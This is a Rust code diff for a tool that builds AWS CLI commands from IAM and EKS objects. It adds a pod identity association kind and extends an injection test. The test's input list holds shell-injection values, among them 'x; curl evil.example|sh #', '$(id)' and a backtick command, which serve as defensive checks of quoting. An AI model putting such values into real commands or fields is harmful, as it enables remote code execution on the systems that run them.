@@ -5,6 +5,7 @@ use serde_json::Value;
 
 use crate::names::Names;
 use crate::objects::kinds;
+use crate::objects::pod_identity_association::PodIdentityAssociation;
 use crate::resources::kinds::arn_kind::Elsewhere;
 use crate::resources::locator::Locator;
 use crate::verbs::bind_scope::{HOME_TAG, STACK_TAG};
@@ -39,6 +40,9 @@ pub(crate) fn commands(object: &Object, names: &Names) -> Vec<String> {
         }
         kinds::ATTACHMENT => {
             vec![format!("aws iam attach-role-policy --role-name {} --policy-arn {}", word("role"), word("policy"))]
+        }
+        kinds::ASSOCIATION => {
+            PodIdentityAssociation::of(&object.attributes).iter().map(PodIdentityAssociation::command).collect()
         }
         kinds::STATEMENT => match Locator::parse(text("repository")) {
             Ok(Locator::Repository(repository)) => {
@@ -133,10 +137,18 @@ mod tests {
         let account = AccountId::parse("111122223333").expect("an account");
         let names = Names::new(stack, "aws", account, Some("a.example/id"));
         for odd in ["x; curl evil.example|sh #", "$(id)", "`id`", "it's", "a b", "a\nb", "*", "\"", "&", "~", "\\"] {
-            for kind in [kinds::POLICY, kinds::ROLE, kinds::ATTACHMENT, kinds::BUCKET_STATEMENT, kinds::KEY_STATEMENT] {
+            for kind in [
+                kinds::POLICY,
+                kinds::ROLE,
+                kinds::ATTACHMENT,
+                kinds::ASSOCIATION,
+                kinds::BUCKET_STATEMENT,
+                kinds::KEY_STATEMENT,
+            ] {
                 let attributes = json!({
                     "path": odd, "document": {"a": odd}, "trust": {"a": odd}, "tags": {"key": odd}, "boundary": odd,
-                    "role": odd, "policy": odd, "bucket": odd, "account": odd, "key": odd, "statement": {"Sid": odd},
+                    "role": odd, "policy": odd, "bucket": odd, "account": odd, "key": odd, "statement": {"Sid": odd}, "cluster": odd,
+                    "namespace": odd, "service_account": odd,
                 });
                 let object = Object {
                     id: ObjectId::new(kind, odd),
